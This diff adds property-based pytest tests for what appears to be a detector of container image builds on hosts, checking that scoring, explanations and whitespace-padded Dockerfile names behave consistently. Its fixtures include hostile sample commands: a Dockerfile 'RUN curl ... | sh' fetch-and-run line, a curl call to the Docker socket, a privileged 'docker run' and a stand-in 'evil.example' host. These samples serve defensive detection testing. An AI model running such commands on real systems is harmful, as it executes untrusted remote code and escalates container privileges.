@@ -1,0 +1,140 @@
+"""A gate opens for exactly what ``explain`` looks at, however a name is spelled."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from t1612core import HARDENED, PROFILES, Detector, EventError, Kind
+from t1612core.engine.gate import BLANKS
+from t1612core.facts.file import is_dockerfile
+from t1612core.knowledge.containerfiles import NAMES, PREFIXES, SUFFIXES, VARIANTS
+
+DETECTORS = {name: Detector(profile) for name, profile in PROFILES.items()}
+TABLES = {
+    "process": "DeviceProcessEvents",
+    "file": "DeviceFileEvents",
+    "network": "DeviceNetworkEvents",
+}
+_AROUND = st.sampled_from(["", "", *BLANKS]) | st.text(
+    st.sampled_from([*BLANKS, *"'\"/\\-.x2\u212a"]), max_size=3
+)
+_DOCKERFILES = st.sampled_from(
+    [
+        *(*NAMES, "Dockerfile", "DOCKERFILE", "doc\u212aerfile", "Dockerfile.go", "Dockerfile.exe"),
+        *(f"{mark}x" for mark in (*PREFIXES, *VARIANTS)),
+        *(f"x{end}" for end in SUFFIXES),
+    ]
+)
+_PROGRAMS = st.sampled_from(
+    sorted({name for branch in HARDENED.branches for name in branch.programs})
+)
+_LONG = st.sampled_from([" " * 300, "\t" * 5_000])
+
+
+def names(watched: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
+    return st.one_of(
+        st.builds("{}{}{}".format, _AROUND, watched, _AROUND),
+        st.builds("{}{}{}".format, watched, _LONG, _AROUND),
+        st.text(max_size=8),
+    )
+
+
+_FIELDS = {
+    "FileName": names(_DOCKERFILES | _PROGRAMS),
+    "InitiatingProcessFileName": names(_PROGRAMS),
+    "FolderPath": st.sampled_from(["/tmp/x", "/dev/shm/.x/", "/srv"]),
+    "ProcessCommandLine": st.sampled_from(
+        [
+            *("docker build /tmp/x", "docker build --no-cache -t a /dev/shm/.x", "docker ps", ""),
+            *("sh -c 'docker build /tmp/x'", "docker run --privileged a"),
+            "curl -X POST --unix-socket /run/docker.sock http://d/build",
+        ]
+    ),
+    "FileContent": st.sampled_from(["", "FROM a\nRUN curl http://192.0.2.1/x | sh\n"]),
+    "ActionType": st.sampled_from(["FileCreated", "FileDeleted", "ConnectionSuccess"]),
+    "RemoteIP": st.sampled_from(["198.51.100.7", "10.0.0.1", ""]),
+    "RemoteUrl": st.sampled_from(["evil.example", "docker.io", ""]),
+    "RemotePort": st.sampled_from([443, 80, 9]),
+}
+_ODD: st.SearchStrategy[Any] = st.sampled_from(
+    [None, 7, 1.5, True, b"x", ["docker", "build"], {}, float("nan")]
+)
+_EVENT = st.builds(
+    lambda event, odd: {**event, **odd},
+    st.fixed_dictionaries(_FIELDS),
+    st.just({}) | st.dictionaries(st.sampled_from(list(_FIELDS)), _ODD, max_size=1),
+)
+
+
+@pytest.mark.parametrize("name", DETECTORS)
+@pytest.mark.parametrize("kind", TABLES)
+@given(event=_EVENT)
+@settings(deadline=None)
+def test_a_finding_is_what_a_branch_explains_to_be_one(
+    name: str, kind: Kind, event: dict[str, Any]
+) -> None:
+    detector, event = DETECTORS[name], {**event, "Type": TABLES[kind]}
+    try:
+        finding = detector.score(event)
+        explained = detector.explain(event)
+    except EventError:
+        with pytest.raises(EventError):
+            detector.explain(event)
+        return
+    reached = [each for each in explained.branches if each.score >= each.branch.threshold]
+
+    assert (finding is not None) == bool(reached)
+    if finding is not None:
+        assert max(each.score for each in reached) == finding.score
+
+
+@pytest.mark.parametrize("name", DETECTORS)
+@pytest.mark.parametrize("kind", TABLES)
+@given(event=_EVENT)
+@settings(deadline=None)
+def test_observing_raises_what_scoring_does_and_no_more(
+    name: str, kind: Kind, event: dict[str, Any]
+) -> None:
+    detector, event = DETECTORS[name], {**event, "Type": TABLES[kind]}
+    try:
+        steps = detector.observe(event)
+        finding = detector.score(event)
+    except EventError:
+        return
+
+    assert finding is None or not steps or finding.score == steps[0].score
+
+
+@given(names(_DOCKERFILES))
+def test_every_dockerfile_passes_the_gate(name: str) -> None:
+    event = {"FileName": name, "FolderPath": "/tmp/x"}
+    explained = DETECTORS["hardened"].explain({**event, "Type": TABLES["file"]})
+
+    assert any(each.is_open for each in explained.branches) >= is_dockerfile(name)
+
+
+@pytest.mark.parametrize("blank", BLANKS)
+@pytest.mark.parametrize(
+    "bare", ["Dockerfile", "Containerfile.web", "x.dockerfile", "dockerfile-x"]
+)
+def test_blanks_around_a_name_hide_no_file(blank: str, bare: str) -> None:
+    for name in (bare + blank, blank + bare, blank * 2 + bare + blank * 2):
+        event = {"FileName": name, "FolderPath": "/dev/shm/.x/", "Type": TABLES["file"]}
+        finding = DETECTORS["hardened"].score(event)
+
+        assert finding is not None
+        assert finding.score == 6
+        assert DETECTORS["hardened"].observe(event)[0].is_alert
+
+        # The rule's name is exact, and its ending an ending.
+        is_the_rules = name.endswith(".dockerfile")
+        assert (DETECTORS["sentinel"].score(event) is not None) == is_the_rules
+        assert DETECTORS["sentinel"].observe(event)[0].is_alert == is_the_rules
+
+
+def test_the_blanks_are_those_that_python_strips() -> None:
+    assert "".join(filter(str.isspace, map(chr, range(0x110000)))) == BLANKS
